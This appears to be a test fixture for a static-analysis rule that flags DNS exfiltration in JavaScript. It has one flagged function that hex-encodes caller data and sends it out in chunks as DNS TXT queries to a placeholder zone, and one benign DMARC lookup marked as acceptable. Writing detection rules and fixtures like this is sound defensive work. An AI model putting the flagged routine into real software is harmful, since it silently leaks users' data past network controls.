// A resolver of its own; the data handed in by the caller, serialised and hex-encoded into labels.
const dns = require('dns');
exports.flush = async function flush(data) {
  const hex = Buffer.from(JSON.stringify(data)).toString('hex');
  const r = new dns.promises.Resolver({ timeout: 1500 });
  for (let i = 0; i < hex.length; i += 60) {
    // ruleid: js_dns_exfiltration
    await r.resolveTxt(`${hex.slice(i, i + 60)}.${i}.t.example-zone.io`);
  }
};
exports.check = async function check(host) {
  const r = new dns.promises.Resolver();
  // ok: js_dns_exfiltration
  return r.resolveTxt(`_dmarc.${host}`);
};
